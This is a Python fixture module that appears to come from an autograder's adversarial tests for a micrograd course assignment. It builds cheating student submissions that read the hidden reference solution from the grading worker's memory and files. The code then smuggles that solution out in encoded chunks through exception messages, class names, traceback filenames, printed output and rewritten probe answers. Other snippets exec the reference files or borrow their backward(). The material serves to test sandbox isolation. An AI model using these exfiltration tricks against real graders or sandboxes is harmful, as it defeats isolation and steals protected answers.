"""Submissions that read the reference code an isolation mode puts in their worker and try to pass it
on as text (tests/test_attack_reference_text.py), or to use it for points.

Each is an assignment's student template with ATTACK appended to one file and hooked into the
functions the reference-bearing workers call: every call sends the next chunk of the reference
(zlib-compressed, base64/base32-encoded) through another kind of text: an exception message, an
exception class's name, a code object's file name (the traceback's "where"), a SyntaxError's
message, an ImportError's and a ModuleNotFoundError's message (missing-file wording), printed
output, or a string in the probe's answer (the probe's code replaced in place).
"""

from __future__ import annotations

import hashlib

MARKER = "RX9"  # starts every chunk, so a test can also look for the chunks themselves

ATTACK = r'''

# -- the attack (tests/adversarial/reference_leaks.py) --
def _reference_text():
    import gc
    import sys
    found = []
    for name in ("reference_operations", "reference_modules"):
        module = sys.modules.get(name)
        if module is None:
            try:
                module = __import__(name)
            except ImportError:  # not in this worker
                module = None
        if module is not None:
            found.append(open(module.__file__).read())
    for obj in gc.get_objects():  # the reference closures the probe built, whoever imported them
        code = getattr(obj, "__code__", None)
        if code is not None and "reference" in code.co_filename:
            try:
                found.append(open(code.co_filename).read())
            except OSError:
                pass
            break
    engine = sys.modules.get("micrograd.engine")
    if engine is not None:
        found.append(open(engine.__file__).read())
    return "\n".join(found)


def _chunks(alphabet):
    import base64
    import zlib
    packed = zlib.compress(_reference_text().encode(), 9)
    text = (base64.b32encode(packed).decode().rstrip("=") if alphabet == "b32"
            else base64.b64encode(packed).decode())
    size = 60 if alphabet == "b32" else 250
    return [text[i:i + size] for i in range(0, len(text), size)]


def _in_own_worker():
    """The student's own files, as handed in, are all this worker holds (the attacker knows their own files)."""
    import hashlib
    import sys
    engine = sys.modules.get("micrograd.engine")
    text = open(engine.__file__, "rb").read() if engine is not None else b""
    own_engine = engine is None or b"def _leak(" in text or hashlib.sha256(text).hexdigest() in _OWN_FILES
    return own_engine and not any(name in sys.modules for name in ("reference_operations", "reference_modules"))


def _leak(*args, **kwargs):
    import builtins
    import sys
    if _in_own_worker():
        print("OWN-WORKER-PRINTS")  # the own worker: it holds only the student's own files
        raise NotImplementedError("a stub")
    n = getattr(builtins, "_rx9_calls", 0)  # kept across re-imports of a module that failed to import
    builtins._rx9_calls = n + 1
    kind = n % 8
    chunks = _chunks("b32" if kind in (1, 2) else "b64")
    chunk = "RX9" + str(n) + "_" + chunks[(n // 8) % len(chunks)]
    print(chunk)
    print(chunk, file=sys.stderr)
    if kind == 0:
        raise ValueError(chunk)
    if kind == 1:
        raise type("E" + chunk.replace("_", "").replace("=", ""), (Exception,), {})(chunk)
    if kind == 2:
        exec(compile("raise ValueError()", "/submission/micrograd/" + chunk + ".py", "exec"))
    if kind == 3:
        raise SyntaxError(chunk, ("/submission/micrograd/nn.py", 1, 1, chunk))
    if kind == 4:
        raise ImportError(chunk)
    if kind == 5:
        raise ModuleNotFoundError("No module named 'micrograd." + chunk.replace("+", "_").replace("/", "_")
                                  .replace("=", "") + "'")
    if kind == 6:
        probes = sys.modules.get("probes") or sys.modules.get("notebook_probes")
        for name in ("model", "graphs", "attributes", "call", "mse", "train"):
            function = getattr(probes, name, None)
            if function is not None:
                function.__code__ = _answer.__code__
        raise ValueError(chunk)
    import importlib
    importlib.import_module("torch." + chunk.replace("+", "_").replace("/", "_").replace("=", ""))


def _answer(*args, **kwargs):
    text = __import__("sys").modules["_leaked"].pop()
    return {"results": [text], "forward": [[text]], "values": {"a.grad": text}, "value": text,
            "loss": text, "losses": [text]}


def _stash():
    import sys
    import types
    module = types.ModuleType("_leaked")
    module.pop = lambda: "RX9s_" + _chunks("b64")[0]
    sys.modules["_leaked"] = module


_stash()
'''

# file to append to -> the hook: code that makes the reference-bearing workers' calls run _leak.
HOOKS = {
    "micrograd/nn.py": "\nfor _cls in (Neuron, Layer, MLP):\n    _cls.__init__ = _leak\ntrain = mse_loss = _leak\n",
    "micrograd/engine.py": "\nValue.backward = _leak\n",
    "by_hand.py": "\n_leak()\n",
}


def attacked(files: dict[str, str], targets: tuple[str, ...]) -> dict[str, str]:
    """`files` (an assignment's template) with the attack in each of `targets`: appended, or where a
    stub of module-level code stops the module (a notebook's by_hand.py)."""
    files = dict(files)
    own = sorted(hashlib.sha256(text.encode()).hexdigest() for text in files.values())
    for target in targets:
        head, stop, tail = files[target].partition("\nraise NotImplementedError")
        files[target] = head + ATTACK + f"\n_OWN_FILES = {own!r}\n" + HOOKS[target] + stop + tail
    return files


def stealing(paths: list[str]) -> str:
    """Code that execs the first readable file of `paths` (the course's reference files) into the
    module it ends, as a student who found them would, then takes any Neuron, Layer, MLP or Module
    class the worker holds from elsewhere (gc.get_objects)."""
    return ("\n\nfor _path in " + repr(paths) + ":\n"
            "    try:\n"
            "        exec(open(_path).read(), globals())\n"
            "        break\n"
            "    except Exception:\n"
            "        pass\n"
            "import gc as _gc\n"
            "for _obj in _gc.get_objects():\n"
            "    if isinstance(_obj, type) and _obj.__name__ in ('Neuron', 'Layer', 'MLP', 'Module') \\\n"
            "            and _obj.__module__ != __name__:\n"
            "        globals()[_obj.__name__] = _obj\n")


# Introspects what the reference_derivatives worker holds and builds backward() from it.
INTROSPECTING_BACKWARD = r'''


def _backward_from_the_reference(self):
    import gc
    import inspect
    import sys
    module = sys.modules.get("reference_operations")
    if module is None:
        import reference_operations as module
    namespace = {}
    exec(inspect.getsource(module), namespace)
    for obj in gc.get_objects():  # what the probe built from it
        if callable(obj) and getattr(obj, "__module__", "") == "reference_operations":
            namespace.setdefault(getattr(obj, "__name__", ""), obj)
    for candidate in ("backward", "topological_order", "build_topo", "topo"):
        if candidate in namespace:
            return namespace[candidate](self)
    raise NotImplementedError("the reference holds no backward() to borrow")


Value.backward = _backward_from_the_reference
'''
